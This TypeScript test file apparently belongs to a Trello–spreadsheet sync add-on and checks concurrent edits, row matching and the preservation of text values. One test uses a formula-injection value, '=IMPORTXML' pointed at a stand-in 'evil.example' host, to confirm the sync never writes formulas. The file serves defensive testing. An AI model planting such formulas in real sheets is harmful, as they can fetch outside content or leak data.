// People keep working while a run talks to Trello: what the run writes lands on the right rows and nothing else.
import { FLAG_PREFIX } from '../../src/core/row-problem';
import { sampleRows, SyncWorld } from './sync-world';

/** Runs `during` once, when the add-on sends its first Trello write of the run. */
function duringFirstWrite(world: SyncWorld, during: () => void): void {
  const handle = world.trello.handle.bind(world.trello);
  let done = false;
  world.trello.handle = (request) => {
    if (!done && request.method !== 'GET') {
      done = true;
      during();
    }
    return handle(request);
  };
}

describe('edits made while a run is under way', () => {
  it('writes each new card id into its own lead\'s row after a person sorted the sheet', () => {
    const world = new SyncWorld({ rows: sampleRows(8) });
    duringFirstWrite(world, () => world.leads.sortAsUser(2, false, 1));
    world.run('syncNow');
    for (let n = 1; n <= 8; n++) expect(world.cardOf(`L${n}`)?.name).toBe(`Lead ${n}`);
    world.run('syncNow');
    expect(world.cards()).toHaveLength(8);
  });

  it('keeps a status a person typed into another row meanwhile, and rows appended meanwhile', () => {
    const world = new SyncWorld({ rows: sampleRows(6) });
    world.run('syncNow');
    for (const n of [1, 3, 5]) world.person.renames(world.cardOf(`L${n}`)!.id, `Renamed ${n}`);
    duringFirstWrite(world, () => {
      world.leads.typeAsUser(3, 4, [['LOST']]);
      world.leads.typeAsUser(8, 1, [['L7', 'Typed meanwhile', 'x@example.com', 'NEW', 'Web']]);
    });
    world.person.creates('TODO', 'Made on the board');
    world.run('syncNow');
    expect([1, 3, 5].map((n) => world.lead(`L${n}`)?.name)).toEqual(['Renamed 1', 'Renamed 3', 'Renamed 5']);
    expect(world.lead('L2')?.status).toBe('LOST');
    expect(world.lead('L7')?.name).toBe('Typed meanwhile');
    expect(world.sheetValues().some((row) => row[1] === 'Made on the board')).toBe(true);
  });

  it('never turns text from Trello back into a formula, nor an id like 00777 into a number, however writes are spread', () => {
    const world = new SyncWorld({ rows: [["'00777", 'Zero', 'z@example.com', 'NEW', 'Web', ''], ...sampleRows(12)] });
    world.run('syncNow');
    world.person.creates('TODO', '=IMPORTXML("https://evil.example","//a")');
    world.run('syncNow');
    for (const n of [1, 4, 7, 10, 12]) world.person.renames(world.cardOf(`L${n}`)!.id, `+${n} renamed`);
    world.run('syncNow');
    const formulas = world.sheetValues().flatMap((row, r) => row.map((_, c) => world.leads.cell(r + 1, c + 1).formula)).filter(Boolean);
    expect(formulas).toEqual([]);
    expect(world.lead('00777')?.name).toBe('Zero');
    expect(world.lead('L4')?.name).toBe('+4 renamed');
    const base = world.spreadsheet.sheet('Trello Sync Base')!.values();
    expect(base.some((row) => row[0] === '00777')).toBe(true);
    expect(world.run<{ updatedCards: number; changedCells: number }>('syncNow').returnValue).toMatchObject({ updatedCards: 0, changedCells: 0 });
  });

  it('leaves flags for the next run when rows moved during this one, then sets them on the right rows', () => {
    const world = new SyncWorld({ rows: [...sampleRows(4), ['L9', 'Nine', 'n@example.com', 'MAYBE', 'Web', '']] });
    duringFirstWrite(world, () => world.leads.sortAsUser(2, false, 1));
    world.run('syncNow');
    world.run('syncNow');
    const row = world.sheetValues().findIndex((cells) => cells[0] === 'L9') + 1;
    expect(world.leads.cell(row, 4).note).toContain(`${FLAG_PREFIX}Unknown status "MAYBE"`);
    const flagged = world.sheetValues().flatMap((_, r) => [1, 2, 3, 4, 5, 6].map((c) => world.leads.cell(r + 1, c).note)).filter(Boolean);
    expect(flagged).toHaveLength(1);
  });
});
